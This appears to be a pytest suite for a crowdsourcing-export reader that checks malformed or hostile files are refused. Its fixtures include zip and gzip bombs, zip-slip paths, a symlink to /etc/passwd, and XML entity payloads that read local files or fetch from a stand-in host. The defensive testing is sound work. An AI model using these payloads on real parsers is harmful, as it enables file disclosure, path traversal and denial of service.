"""Bad exports: what the codes F2 to F9, S4, S10 to S17 and D25 to D29 of the fault list must get. They are refused with
the name of the file and the place, or read rightly; nothing is fetched, run, or left outside a temporary folder."""

from __future__ import annotations

import contextlib
import csv
import gzip
import io
import json
import os
import pickle
import random
import re
import socket
import stat
import subprocess
import sys
import tempfile
import urllib.request
import zipfile
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from counting import table
from golden_exports import EXPECTED, FILES, FIRST, GOLDEN, TABLES, Case, left_out, rows_of, same

import crowdwise as cw
from crowdwise.errors import CrowdwiseError, DataError, EmptyDataError, FileError

PLAIN = "task,worker,label\nt1,ann,cat\nt1,bob,dog\n"
SINGLE = tuple(case for case in FIRST if (GOLDEN / case.file).is_file())
LINED = tuple(case for case in SINGLE if case.file.endswith((".jsonl", ".manifest")))
RECORDS = tuple(case for case in SINGLE if case.file.endswith(".json"))
XML = tuple(case for case in SINGLE if case.file.endswith(".xml"))
DELIMITED = tuple(case for case in SINGLE if case.file in TABLES)


def of(cases: tuple[Case, ...]) -> pytest.MarkDecorator:
    """Run a test for each of these files."""
    return pytest.mark.parametrize("case", cases, ids=[case.file for case in cases])


def data_of(case: Case) -> bytes:
    return (GOLDEN / case.file).read_bytes()


def tried(case: Case, path: Path) -> tuple[Any, str]:
    """Return the answers in a copy of a file; None and the message if it is refused."""
    try:
        return case.read(path), ""
    except CrowdwiseError as error:
        return None, str(error)


@pytest.fixture
def file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """Write a file into a folder of its own. What is unpacked goes elsewhere, and is gone when the test ends."""
    (tmp_path / "golden").mkdir()
    (tmp_path / "temporary").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "temporary"))

    def write(data: str | bytes, name: str = "answers.csv") -> Path:
        path = tmp_path / "golden" / name
        path.write_bytes(data if isinstance(data, bytes) else data.encode())
        return path

    yield write
    assert list((tmp_path / "temporary").iterdir()) == []
    assert {path.name for path in tmp_path.iterdir()} == {"golden", "temporary"}


# ------------------------------------------------------------------------------------- F3, F6, F7: files that are cut


@of(SINGLE)
def test_f3_a_cut_export_is_refused_by_name_or_has_fewer_answers(case: Case, file: Any) -> None:
    data, whole, read = data_of(case), set(rows_of(case.read())), case.read().intake.rows_read
    for share in (0.02, 0.1, 0.3, 0.5, 0.7, 0.9, 0.97):
        path = file(data[: int(len(data) * share)], case.file)
        answers, refusal = tried(case, path)
        if answers is None:
            assert case.file in refusal
        else:  # cut between two lines, or in the last cell of a row
            assert case.file.endswith((".csv", ".tsv", ".txt", ".jsonl", ".manifest"))
            assert len(set(rows_of(answers)) - whole) <= 1
            assert answers.intake.rows_read <= read


@of((*RECORDS, *XML, *(case for case in SINGLE if case.file.endswith(".zip"))))
def test_f6_f7_f8_a_cut_file_with_an_end_is_always_refused(case: Case, file: Any) -> None:
    data = data_of(case).rstrip()
    for size in {1, 2, 10, *range(20, len(data), max(1, len(data) // 12)), len(data) - 1}:
        with pytest.raises(CrowdwiseError, match=re.escape(case.file)):
            case.read(file(data[:size], case.file))


@of(LINED)
def test_f3_a_line_that_is_cut_is_refused_with_its_number(case: Case, file: Any) -> None:
    lines = data_of(case).rstrip().split(b"\n")
    last = b"\n".join([*lines[:-1], lines[-1][:-2]])
    with pytest.raises(FileError, match=rf"{re.escape(case.file)}:{len(lines)}: invalid JSON record"):
        case.read(file(last, case.file))


@of(SINGLE)
def test_f6_a_cut_gz_of_an_export_is_refused(case: Case, file: Any) -> None:
    data = gzip.compress(data_of(case))
    for size in (len(data) // 2, len(data) - 9, len(data) - 1):
        with pytest.raises(FileError, match=re.escape(f"{case.file}.gz is not a complete gzip file")):
            case.read(file(data[:size], f"{case.file}.gz"))


@of(tuple(case for case in SINGLE if case.file.endswith(".zip")))
def test_f6_a_flipped_bit_in_a_zip_is_refused_or_does_not_matter(case: Case, file: Any) -> None:
    data, rng, refused = data_of(case), random.Random(1), 0
    whole = {row[::2] for row in case.votes}
    for _ in range(40):
        flipped = bytearray(data)
        flipped[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
        try:
            answers = case.read(file(bytes(flipped), case.file))
        except CrowdwiseError:
            refused += 1
        else:  # the names of the files, which are the workers, have no checksum
            assert {row[::2] for row in rows_of(answers)} <= whole
    assert refused > 10


# ------------------------------------------------------------------------------------------------------ F6: zip and gz


def zipped(*members: tuple[str | zipfile.ZipInfo, bytes | str]) -> bytes:
    """Return a zip with these files."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def test_f6_a_zip_that_expands_too_much_is_refused(file: Any) -> None:
    path = file(zipped(("a.csv", b"0" * 65_000_000)), "bomb.zip")
    with pytest.raises(FileError, match=r"bomb\.zip expands to more than 16 MB.*max_expanded='20GB'"):
        cw.read(path)


def test_f6_a_gz_that_expands_too_much_is_refused(file: Any) -> None:
    path = file(gzip.compress(b"0" * 17_000_000), "bomb.csv.gz")
    with pytest.raises(FileError, match=r"bomb\.csv\.gz expands to more than 16 MB"):
        cw.read(path)


@pytest.fixture
def small_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let compressed files expand to 10 kB only, or to 100 times their size."""
    monkeypatch.setattr("crowdwise.io.opening.FREE_BYTES", 10_000)


BOMBS = {
    "a.csv.gz": "task,worker,label\n" + "t,w,l\n" * 100_000,
    "a.jsonl.gz": '{"item": "t", "judge": "w", "verdict": "x"}\n' * 20_000,
    "a.json.gz": "[" + ",".join(['{"id": 1, "data": {}, "annotations": []}'] * 20_000) + "]",
    "b.json.gz": '{"t": {' + ",".join(f'"{n}": 1' for n in range(1000)) + " " * 500_000 + "}}",
    "a.xml.gz": "<annotations>" + '<image id="1" name="a"></image>' * 20_000 + "</annotations>",
    "b.xml.gz": "<annotations>" + " " * 500_000 + "</annotations>",
    "a.txt.gz": "1 -1\n" * 100_000,
}


@pytest.mark.parametrize("name", BOMBS)
@pytest.mark.usefixtures("small_limit")
def test_f6_every_reader_limits_what_a_gz_expands_to(name: str, file: Any) -> None:
    path = file(gzip.compress(BOMBS[name].encode()), name)
    with pytest.raises(FileError, match=rf"{re.escape(name)} expands to more than"):
        cw.read(path)


@pytest.mark.usefixtures("small_limit")
def test_f6_the_limit_can_be_raised(file: Any) -> None:
    path = file(gzip.compress(BOMBS["a.jsonl.gz"].encode()), "a.jsonl.gz")
    assert cw.read(path, max_expanded="2MB").n_answers == 1
    inside = file(zipped(("a.jsonl", BOMBS["a.jsonl.gz"])), "a.zip")
    with pytest.raises(FileError, match=r"a\.zip expands to more than"):
        cw.read(inside)
    assert cw.read(inside, max_expanded="2MB").n_answers == 1


@pytest.mark.usefixtures("small_limit")
def test_f6_a_workbook_that_expands_too_much_is_refused(file: Any) -> None:
    path = file(zipped(("xl/workbook.xml", b"<workbook/>"), ("xl/worksheets/sheet1.xml", b" " * 500_000)), "bomb.xlsx")
    with pytest.raises(FileError, match=r"bomb\.xlsx expands to more than"):
        cw.read(path)


def test_f6_a_zip_that_lies_about_its_size_is_refused(file: Any) -> None:
    """Both the header of the file and the list at the end say that it has 10 bytes."""
    text = b"task,worker,label\n" + b"t,w,l\n" * 100
    data = zipped(("a.csv", text)).replace(len(text).to_bytes(4, "little"), (10).to_bytes(4, "little"))
    with pytest.raises(FileError, match=r"lies\.zip is not a complete zip file: Bad CRC-32 for file 'a\.csv'"):
        cw.read(file(data, "lies.zip"))


@pytest.mark.parametrize(
    "name",
    ["../evil.csv", "a/../../evil.csv", "/evil.csv", "//evil.csv", "..\\evil.csv", "C:\\evil.csv", "C:evil.csv", ".."],
)
def test_f6_names_that_lead_out_of_a_zip_are_refused(name: str, file: Any) -> None:
    path = file(zipped(("good.csv", PLAIN), (name, PLAIN)), "slip.zip")
    with pytest.raises(FileError, match=rf"slip\.zip holds {re.escape(repr(name))}, which leads out of it"):
        cw.read(path)
    assert not list(path.parent.parent.rglob("evil*"))


def test_f6_a_link_in_a_zip_is_refused(file: Any) -> None:
    link = zipfile.ZipInfo("a.csv")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    with pytest.raises(FileError, match=r"link\.zip holds the link 'a\.csv'"):
        cw.read(file(zipped((link, "/etc/passwd")), "link.zip"))


@pytest.mark.parametrize("name", ["inner.zip", "inner.csv.gz", "inner.xlsx", "inner.csv"])
def test_f6_an_archive_in_a_zip_is_refused(name: str, file: Any) -> None:
    path = file(zipped(("a.csv", PLAIN), (name, zipped(("b.csv", PLAIN)))), "nested.zip")
    with pytest.raises(FileError, match=rf"nested\.zip holds the archive '{re.escape(name)}'\. Unpack it"):
        cw.read(path)


@of(tuple(case for case in SINGLE if not case.file.endswith(".zip")))
@pytest.mark.filterwarnings("error")
def test_f6_a_gz_is_closed_when_it_has_been_read(case: Case, file: Any) -> None:
    """A file that is not closed gives a ResourceWarning when it is forgotten."""
    case.read(file(gzip.compress(data_of(case)), f"{case.file}.gz"))


def test_f6_a_gz_in_a_gz_is_refused(file: Any) -> None:
    with pytest.raises(FileError, match=r"^a\.csv\.gz "):
        cw.read(file(gzip.compress(gzip.compress(PLAIN.encode())), "a.csv.gz"))


def test_f6_the_refusal_of_a_gz_in_a_gz_says_so(file: Any) -> None:
    with pytest.raises(FileError, match=r"a\.csv\.gz .*(gzip|compressed)"):
        cw.read(file(gzip.compress(gzip.compress(PLAIN.encode())), "a.csv.gz"))


def test_f6_an_encrypted_zip_is_refused(file: Any) -> None:
    data = bytearray(zipped(("a.csv", PLAIN)))
    data[6] |= 1  # the flag in the header of the file, and in the list at the end
    data[data.index(b"PK\x01\x02") + 8] |= 1
    with pytest.raises(FileError, match=r"secret\.zip is encrypted"):
        cw.read(file(bytes(data), "secret.zip"))


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_f6_a_name_that_is_twice_in_a_zip_is_refused(file: Any) -> None:
    path = file(zipped(("a.csv", PLAIN), ("a.csv", PLAIN.replace("cat", "dog"))), "twice.zip")
    with pytest.raises(FileError, match=r"twice\.zip holds 'a\.csv' twice"):
        cw.read(path)


def test_f6_a_zip_of_too_many_files_is_refused(file: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("crowdwise.io.opening.MAX_MEMBERS", 3)
    path = file(zipped(*((f"{n}.csv", PLAIN) for n in range(4))), "many.zip")
    with pytest.raises(FileError, match=r"many\.zip has 4 files; at most 3 are read"):
        cw.read(path)


def test_f6_a_zip_without_tables_is_refused_by_what_it_holds(file: Any) -> None:
    with pytest.raises(FileError, match=r"pictures\.zip holds no file of answers .*it holds 'a\.jpg'"):
        cw.read(file(zipped(("a.jpg", b"\xff\xd8")), "pictures.zip"))


def test_f6_hidden_files_of_a_zip_are_left_alone(file: Any) -> None:
    path = file(zipped(("a.csv", PLAIN), ("__MACOSX/._a.csv", b"\0\5\x16\7"), (".hidden.csv", "x")), "mac.zip")
    assert cw.read(path).n_answers == 2


# ------------------------------------------------------------------------------------------------------------ F8: XML

ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
XML_BOMBS = {
    "billion laughs": f'<!DOCTYPE annotations [<!ENTITY e0 "ha">{ENTITIES}]><annotations>&e9;</annotations>',
    "quadratic blow-up": f'<!DOCTYPE a [<!ENTITY e "{"x" * 10_000}">]><annotations>{"&e;" * 10_000}</annotations>',
    "external entity": '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><annotations>&e;</annotations>',
    "remote entity": '<!DOCTYPE a [<!ENTITY e SYSTEM "http://evil.example/e">]><annotations>&e;</annotations>',
    "external document type": '<!DOCTYPE annotations SYSTEM "http://evil.example/a.dtd"><annotations></annotations>',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><annotations></annotations>',
}


@pytest.mark.parametrize("kind", XML_BOMBS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_f8_xml_with_a_document_type_is_refused(kind: str, encoding: str, file: Any) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?>{XML_BOMBS[kind]}'
    with pytest.raises(FileError, match=r"bomb\.xml declares a document type or entities"):
        cw.read(file(text.encode(encoding), "bomb.xml"))


def test_f8_the_refusal_of_entities_says_why(file: Any) -> None:
    for text in XML_BOMBS.values():
        with pytest.raises(FileError, match=r"bomb\.xml declares a document type or entities \(\w+\), which may be an"):
            cw.read(file(text, "bomb.xml"))


@of(XML)
def test_f8_a_document_type_before_a_golden_file_is_refused(case: Case, file: Any) -> None:
    head, mark, rest = data_of(case).decode().partition("?>")
    with pytest.raises(FileError, match="declares a document type or entities"):
        case.read(file(f"{head}{mark}<!DOCTYPE annotations>{rest}", case.file))


def test_f8_deeply_nested_xml_is_read_in_little_memory(file: Any) -> None:
    text = "<annotations>" + "<a>" * 50_000 + "</a>" * 50_000 + '<image id="0" name="a"><tag label="x"/></image>'
    assert rows_of(cw.read(file(text + "</annotations>", "ann.xml"))) == [("a", "ann", "x")]


@pytest.mark.parametrize(
    ("shape", "message"),
    [
        ('<box label="a" xtl="1" ytl="2" xbr="x" ybr="4"/>', "could not convert"),
        ('<box label="a" xtl="1" ytl="2" xbr="3"/>', "it has no 'ybr'"),
        ('<points label="a" points="1,2;3"/>', "not enough values"),
        ('<points label="a" points="nan,2"/>', "not a finite number"),
        ('<points points="1,2"/>', "it has no 'label'"),
    ],
)
def test_f8_a_shape_that_cannot_be_read_is_refused_with_its_record(shape: str, message: str, file: Any) -> None:
    text = f'<annotations><image id="0" name="a"/><image id="1" name="b">{shape}</image></annotations>'
    with pytest.raises(FileError, match=rf"ann\.xml:2: this record is not as CVAT writes it: .*{message}"):
        cw.read(file(text, "ann.xml"))


def test_other_xml_is_refused_by_name(file: Any) -> None:
    for text, said in {
        "<html><body></body></html>": "a web page, perhaps one that asks you to log in",
        '<?xml version="1.0"?><annotation><object/></annotation>': "XML, but not as CVAT writes it",
    }.items():
        with pytest.raises(FileError, match=rf"a\.xml is {said}"):
            cw.read(file(text, "a.xml"))


# ------------------------------------------------------------------------------------------------------- F2: encodings


@of(DELIMITED)
def test_f2_tables_in_utf_16_with_a_mark_are_read(case: Case, file: Any) -> None:
    text = data_of(case).decode("utf-8-sig")
    assert same(case.read(file(text.encode("utf-16"), case.file)), case.read())


def test_f2_the_encoding_that_is_advised_reads_the_table(file: Any) -> None:
    path = file(PLAIN.encode("utf-16-be"))
    with pytest.raises(FileError) as caught:
        cw.read(path)
    advised = str(caught.value).rpartition("encoding=")[2].strip("'")
    assert rows_of(cw.read(path, encoding=advised)) == rows_of(cw.read(file(PLAIN)))


@of((*LINED, *RECORDS))
def test_f2_json_in_utf_16_with_a_mark_is_read(case: Case, file: Any) -> None:
    for encoding in ("utf-16", "utf-32"):
        assert same(case.read(file(data_of(case).decode().encode(encoding), case.file)), case.read())


@of((*LINED, *RECORDS))
def test_f2_json_in_other_encodings_is_refused(case: Case, file: Any) -> None:
    message = rf"{re.escape(case.file)}(:\d+)?(: invalid JSON|: byte 0x.. at offset| looks)"
    for encoding in ("utf-16-le", "utf-16-be", "utf-32-le"):
        with pytest.raises(FileError, match=message):
            case.read(file(data_of(case).decode().encode(encoding), case.file))


@of(DELIMITED)
def test_f2_tables_in_utf_16_without_a_mark_are_refused(case: Case, file: Any) -> None:
    for encoding in ("utf-16-le", "utf-16-be"):
        with pytest.raises(FileError, match=rf"{re.escape(case.file)} looks like UTF-16 without a byte order mark"):
            case.read(file(data_of(case).decode("utf-8-sig").encode(encoding), case.file))


@of(DELIMITED)
def test_f2_latin_1_in_a_table_is_refused_with_line_and_offset(case: Case, file: Any) -> None:
    """The last letter of the file becomes one of Latin-1."""
    data = data_of(case)
    at = max(n for n, byte in enumerate(data) if chr(byte).isalpha() and byte < 128)
    line = data.count(b"\n", 0, at) + 1
    with pytest.raises(FileError, match=rf"{re.escape(case.file)}:{line}: byte 0xE9 at offset {at} is not UTF-8"):
        case.read(file(data[:at] + b"\xe9" + data[at + 1 :], case.file))


@of(LINED)
def test_f2_latin_1_in_a_line_of_json_is_refused_with_line_and_offset(case: Case, file: Any) -> None:
    data = data_of(case)
    at = max(n for n, byte in enumerate(data) if chr(byte).isalpha() and byte < 128)
    line = data.count(b"\n", 0, at) + 1
    with pytest.raises(FileError, match=rf"{re.escape(case.file)}:{line}: byte 0xE9 at offset {at} is not UTF-8"):
        case.read(file(data[:at] + b"\xe9" + data[at + 1 :], case.file))


@of((*(case for case in RECORDS if case.file != "peerannot.json"), *XML))
def test_f2_latin_1_in_json_and_xml_is_refused(case: Case, file: Any) -> None:
    data = data_of(case)
    at = max(n for n, byte in enumerate(data) if chr(byte).isalpha() and byte < 128)
    with pytest.raises(FileError, match=rf"{re.escape(case.file)}: invalid (JSON|XML)"):
        case.read(file(data[:at] + b"\xe9" + data[at + 1 :], case.file))


def test_f2_an_export_in_latin_1_is_read_when_that_is_said(file: Any) -> None:
    text = "HITId,WorkerId,AssignmentStatus,Answer.x\n1,ann,Approved,größe\n"
    path = file(text.encode("latin-1"))
    with pytest.raises(FileError, match=r"answers\.csv:2: byte 0xF6 at offset \d+ is not UTF-8"):
        cw.read(path)
    assert rows_of(cw.read(path, encoding="latin-1")) == [("1", "ann", "größe")]


@of(DELIMITED)
def test_f2_nul_bytes_in_a_table_do_not_change_other_cells(case: Case, file: Any) -> None:
    """The last row begins with a NUL, which stands in a cell that is not read, or belongs to an id."""
    data = data_of(case)
    at = data.rindex(b"\n", 0, len(data) - 1) + 1
    answers = case.read(file(data[:at] + b"\0" + data[at:], case.file))
    assert answers.intake.rows_used == len(case.votes)
    odd = set(rows_of(answers)) - set(case.votes)
    assert all("\0" in f"{row[0]}{row[1]}" for row in odd)
    assert len({row[1] for row in odd}) <= 1  # all of them are in the last row


# --------------------------------------------------------------------------------------------- F3: tables that are torn


def rows_in(case: Case) -> tuple[list[list[str]], str]:
    delimiter = "\t" if case.file.endswith(".tsv") else ","
    rows = csv.reader(io.StringIO(data_of(case).decode("utf-8-sig"), newline=""), delimiter=delimiter)
    return [row for row in rows if row], delimiter


def text_of(rows: list[list[str]], delimiter: str) -> str:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return out.getvalue()


@of(DELIMITED)
@pytest.mark.parametrize("change", ["short", "long"])
def test_f3_a_ragged_export_is_refused_with_its_line(case: Case, change: str, file: Any) -> None:
    rows, delimiter = rows_in(case)
    rows[-1] = rows[-1][:-1] if change == "short" else [*rows[-1], "more"]
    line = text_of(rows[:-1], delimiter).count("\n") + 1
    with pytest.raises(FileError, match=rf"{re.escape(case.file)}:{line}: {len(rows[-1])} field\(s\), but the header"):
        case.read(file(text_of(rows, delimiter), case.file))


@of(DELIMITED)
def test_f3_a_column_that_is_twice_in_an_export_is_refused(case: Case, file: Any) -> None:
    rows, delimiter = rows_in(case)
    text = text_of([[*row, row[0]] for row in rows], delimiter)
    with pytest.raises(
        DataError, match=rf"{re.escape(case.file)}:1: the header has '{re.escape(rows[0][0])}' more than"
    ):
        case.read(file(text, case.file))


@of(DELIMITED)
def test_f3_a_quote_that_is_never_closed_is_refused_with_its_line(case: Case, file: Any) -> None:
    rows, delimiter = rows_in(case)
    line = text_of(rows, delimiter).count("\n") + 1
    text = text_of(rows, delimiter) + delimiter.join(['"open', *rows[-1][1:]]).replace("\n", " ") + "\n"
    text = text if text.count('"') % 2 else text.rstrip("\n") + '"\n'
    with pytest.raises(FileError, match=rf"{re.escape(case.file)}:\d+: ") as caught:
        case.read(file(text, case.file))
    assert int(str(caught.value).split(":")[1]) <= line


# ------------------------------------------------------------------------------------------------------------ F7: JSON

TASKS = '[{"id": 1, "data": {}, "annotations": []}, {"id": 2, "data": {}, "annotations": [%s]}]'
CHOICE = '{"completed_by": 1, "result": [{"from_name": "s", "type": "choices", "value": {"choices": [%s]}}]}'
LINE = '{"item": "i", "judge": "a", "verdict": "x"}\n'
# Each is a file whose second record is wrong, and what is said of it.
BAD_JSON = {
    "a key twice": (TASKS % '{"completed_by": 1, "result": [], "result": []}', "after record 1: the key 'result' occ"),
    "a key twice in a line": (LINE + LINE.replace('"j', '"judge": "b", "j'), ":2: .*the key 'judge' occurs twice"),
    "a key twice in an object": ('{"t": {"w": 1}, "u": {"w": 1, "w": 2}}', "the key 'w' occurs twice"),
    "NaN": (TASKS % CHOICE.replace("%s", "NaN"), "after record 1"),
    "NaN in a line": (LINE + LINE.replace('"x"', "NaN"), ":2: .*NaN is not JSON"),
    "NaN in an object": ('{"t": {"w": NaN}}', "NaN is not JSON"),
    "infinity in a line": (LINE + LINE.replace('"x"', "-Infinity"), ":2: .*-Infinity is not JSON"),
    "a number of 5000 digits": (LINE + LINE.replace('"x"', "1" * 5_000), ":2: .*digits"),
    "a list in place of an object": (LINE + "[1]\n", ":2: not an object"),
    "two objects in a line": (LINE + LINE.strip() * 2 + "\n", ":2: invalid JSON record"),
    "a number in a list": ('[{"id": 1, "data": {}, "annotations": []}, 7]', "record 2 is int, not an object"),
    "text behind the list": ('[{"id": 1, "data": {}, "annotations": []}] x', "after record 1"),
    "a text for a list": (TASKS % CHOICE.replace("[%s]", '{"a": 1}'), ":2: this record is not as Label Studio writes"),
    "no value": (TASKS % '{"completed_by": 1, "result": [{"from_name": "s"}]}', ":2: .*it has no 'value'"),
    "a lone surrogate in a line": (LINE + LINE.replace('"x"', '"\\ud800"'), ":2: .*lone surrogate"),
}  # fmt: skip


@pytest.mark.parametrize("kind", BAD_JSON)
def test_f7_bad_json_is_refused_with_its_place(kind: str, file: Any) -> None:
    text, message = BAD_JSON[kind]
    name = "a.jsonl" if text.startswith(LINE) else "a.json"
    with pytest.raises(FileError, match=rf"a\.jsonl?.*{message}"):
        cw.read(file(text, name))


DEEP = "[" * 100_000 + "]" * 100_000


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.json", TASKS % CHOICE), ("a.jsonl", LINE + LINE.replace('"x"', "%s")), ("b.json", '{"t": {"w": %s}}'),
        ("c.json", "%s"), ("d.json", '[{"task": "t", "worker": "w", "label": %s}]'),
        ("z.csv", 'classification_id,user_name,annotations,subject_ids\n1,a,"%s",7\n'),
        ("m.csv", 'HITId,WorkerId,AssignmentStatus,Answer.taskAnswers\n1,a,Approved,"%s"\n'),
    ],
)  # fmt: skip
def test_f7_json_that_is_nested_deeply_is_refused(name: str, text: str, file: Any) -> None:
    with pytest.raises(FileError, match=rf"{re.escape(name)}.*nested too deeply"):
        cw.read(file(text.replace("%s", DEEP), name))


def test_f7_one_record_that_is_too_large_is_refused(file: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("crowdwise.io.json_files.MAX_RECORD_BYTES", 1_000_000)
    path = file(TASKS % (CHOICE % ('"' + "x" * 2_000_000 + '"')), "a.json")
    with pytest.raises(FileError, match=r"a\.json has a record of more than 1 MB"):
        cw.read(path)


def test_f7_one_object_that_is_too_large_is_refused(file: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("crowdwise.io.json_files.MAX_OBJECT_BYTES", 1_000)
    with pytest.raises(FileError, match=r"a\.json holds one JSON object of more than 0 MB"):
        cw.read(file('{"t": {' + ", ".join(f'"{n}": 1' for n in range(500)) + "}}", "a.json"))


def test_f7_large_numbers_keep_their_digits(file: Any) -> None:
    digits = "123456789012345678901234567890"
    assert rows_of(cw.read(file(LINE.replace('"i"', digits), "a.jsonl"))) == [(digits, "a", "x")]
    tasks = (TASKS % CHOICE.replace("%s", '"x"')).replace('"id": 2', f'"id": {digits}')
    assert rows_of(cw.read(file(tasks, "a.json"))) == [(digits, "1", "x")]


def test_f7_many_records_are_read_in_parts(file: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("crowdwise.io.parts.PART_RECORDS", 7)
    tasks = [{"id": n, "data": {}, "annotations": [json.loads(CHOICE % '"x"')]} for n in range(100)]
    answers = cw.read(file(json.dumps(tasks), "a.json"))
    assert (answers.n_answers, answers.n_tasks) == (100, 100)


# -------------------------------------------------------------------------------------- F5: files that are not of text


def containers(name: str) -> dict[str, bytes]:
    """Return a golden table in files of other kinds."""
    frame = pl.DataFrame({column: [row[column] for row in table(GOLDEN / name)] for column in table(GOLDEN / name)[0]})
    kinds: dict[str, Any] = {"parquet": frame.write_parquet, "arrow": frame.write_ipc_stream}
    found = {}
    for kind, write in kinds.items():
        buffer = io.BytesIO()
        write(buffer)
        found[kind] = buffer.getvalue()
    return found


@pytest.mark.parametrize("kind", ["parquet", "arrow"])
def test_f5_a_cut_export_in_parquet_or_arrow_is_refused(kind: str, file: Any) -> None:
    data = containers("mturk-one.csv")[kind]
    for size in (1, 4, 8, *range(20, len(data) - 20, len(data) // 20)):
        with pytest.raises(FileError, match=rf"a\.{kind} is not a complete {kind.capitalize()} file"):
            cw.read(file(data[:size], f"a.{kind}"))


def test_f5_flipped_bits_in_parquet_are_no_foreign_error(file: Any) -> None:
    """Some make polars panic, which is no Exception. A bit that is flipped in a text cannot be noticed."""
    data, rng, read = containers("mturk-one.csv")["parquet"], random.Random(3), 0
    for _ in range(40):
        flipped = bytearray(data)
        flipped[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
        with contextlib.suppress(CrowdwiseError):
            cw.read(file(bytes(flipped), "a.parquet"))
            read += 1
    assert 0 < read < 40


def test_f5_a_panic_of_polars_is_a_refusal(file: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    def panic(*_: Any, **__: Any) -> Any:
        raise pl.exceptions.PanicException("called `Result::unwrap()` on an `Err` value")

    path = file(containers("mturk-one.csv")["parquet"], "a.parquet")
    monkeypatch.setattr(pl, "scan_parquet", panic)
    monkeypatch.setattr(pl, "read_parquet", panic)
    with pytest.raises(FileError, match=r"a\.parquet is not a complete Parquet file"):
        cw.read(path)


# --------------------------------------------------------- S4: Arrow files are tried in a process, which runs no others

SHADOWS = ("polars", "_polars_runtime_32", "json", "typing", "numpy", "pyarrow", "sitecustomize", "usercustomize")


@pytest.fixture
def shadows(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The current folder, with modules of well-known names that leave a file there when they are imported."""
    folder = tmp_path_factory.mktemp("current")
    for name in SHADOWS:
        left = str(folder / f"{name} was imported")
        (folder / f"{name}.py").write_text(f"import os\nos.close(os.open({left!r}, os.O_CREAT))\n")
    monkeypatch.chdir(folder)
    return folder


def imported(folder: Path) -> list[str]:
    """Return the modules of a folder that were imported."""
    return sorted(path.name.removesuffix(" was imported") for path in folder.glob("* was imported"))


@pytest.mark.parametrize("kind", ["file", "stream"])
def test_s4_modules_of_the_current_folder_are_not_imported_for_an_arrow_file(
    kind: str, shadows: Path, file: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    frame = pl.DataFrame({"task": ["1", "1"], "worker": ["ann", "bob"], "label": ["cat", "dog"]})
    buffer, runs = io.BytesIO(), list[Any]()
    (frame.write_ipc if kind == "file" else frame.write_ipc_stream)(buffer)
    run = subprocess.run
    monkeypatch.setattr(subprocess, "run", lambda *a, **options: runs.append(a) or run(*a, **options))
    for place in (file(buffer.getvalue(), "answers.arrow"), file(buffer.getvalue(), "import polars;.arrow")):
        assert rows_of(cw.read(place)) == [("1", "ann", "cat"), ("1", "bob", "dog")]
    assert len(runs) == 2
    assert imported(shadows) == []


def test_s4_modules_of_the_current_folder_are_there_to_be_imported(shadows: Path) -> None:
    """Otherwise the test before this one could not fail."""
    subprocess.run([sys.executable, "-c", "import polars"], check=False, capture_output=True)
    assert imported(shadows) == ["polars"]


# ------------------------------------------------------------------------------------------------- F9: other exports


def test_f9_reports_without_workers_are_refused_with_what_to_give(file: Any) -> None:
    path = file("_unit_id,_golden,_trusted_judgments,mood,mood:confidence\n1,false,3,glad,0.7\n")
    with pytest.raises(FileError, match=r"answers\.csv is the aggregated report of Appen.*Download the full report"):
        cw.read(path)
    record = {"source-ref": "s3://b/a.jpg", "pets": 0, "pets-metadata": {"class-name": "cat", "confidence": 0.9}}
    with pytest.raises(FileError, match=r"output\.manifest .*without the workers.*annotations/worker-response"):
        cw.read(file(json.dumps(record), "output.manifest"))


def test_f9_annotations_without_annotators_are_refused(file: Any) -> None:
    coco = {"info": {}, "images": [{"id": 1}], "annotations": [{"id": 1, "image_id": 1}], "categories": []}
    with pytest.raises(FileError, match=r"coco\.json is a COCO file: one set of annotations, without annotators"):
        cw.read(file(json.dumps(coco), "coco.json"))


def test_f9_a_report_of_appen_without_marked_answers_says_how_to_read_it(file: Any) -> None:
    path = file("_unit_id,_worker_id,mood\n1,ann,glad\n")
    with pytest.raises(FileError, match=r"no column has another beside it whose name ends in '_gold'.*format='csv'"):
        cw.read(path)
    assert cw.read(path, format="csv", task="_unit_id", worker="_worker_id", label="mood").n_answers == 1


def test_f9_files_of_two_platforms_are_not_mixed(file: Any) -> None:
    folder = file(LINE, "a.jsonl").parent
    file(PLAIN, "b.csv")
    with pytest.raises(FileError, match=r"b\.csv is not Logs of language models"):
        cw.read(folder)


@of(SINGLE)
def test_f9_an_empty_file_with_the_name_of_an_export_is_refused(case: Case, file: Any) -> None:
    with pytest.raises(EmptyDataError, match=re.escape(f"no answers in {case.file}: the file is empty")):
        case.read(file(b"", case.file))


@of(DELIMITED)
def test_d4_an_export_with_a_header_only_has_no_answers(case: Case, file: Any) -> None:
    rows, delimiter = rows_in(case)
    options: dict[str, Any] = {} if case.file != "crowd-kit-pairwise.csv" else {"kind": "labels"}
    with pytest.raises(EmptyDataError, match=rf"no answers in {re.escape(case.file)}: it has (no records|a header)"):
        case.read(file(text_of(rows[:1], delimiter), case.file), **options)


